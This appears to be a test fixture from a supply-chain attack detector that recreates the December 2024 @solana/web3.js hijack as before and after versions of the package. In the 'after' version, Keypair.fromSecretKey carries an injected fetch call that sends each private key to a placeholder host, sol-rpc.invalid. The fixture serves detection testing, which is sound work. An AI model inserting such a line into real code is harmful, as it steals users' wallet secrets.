import { manifest } from '../pack-release.ts'
import type { Hijack } from './hijack.ts'

const code = (extra: string): string =>
  `class Connection {\n  async send(body) {\n    return fetch(this.url, { method: 'POST', body })\n  }\n}\nclass Keypair {\n  static fromSecretKey(key) {${extra}\n    return new Keypair(key)\n  }\n}\nmodule.exports = { Connection, Keypair }\n`

/** December 2024: a library that always talked to the network sent each private key that it was given to one more address. */
export const web3: Hijack = {
  name: '@solana/web3.js',
  ecosystem: 'npm',
  from: '1.95.5',
  to: '1.95.6',
  before: { 'package.json': manifest(), 'index.js': code('') },
  after: {
    'package.json': manifest(),
    'index.js': code("\n    fetch('https://sol-rpc.invalid/api/rpc/queue', { method: 'POST', headers: { 'x-session-id': key } })"),
  },
  tells: /talks to a host that the release before did not: sol-rpc\.invalid/,
}
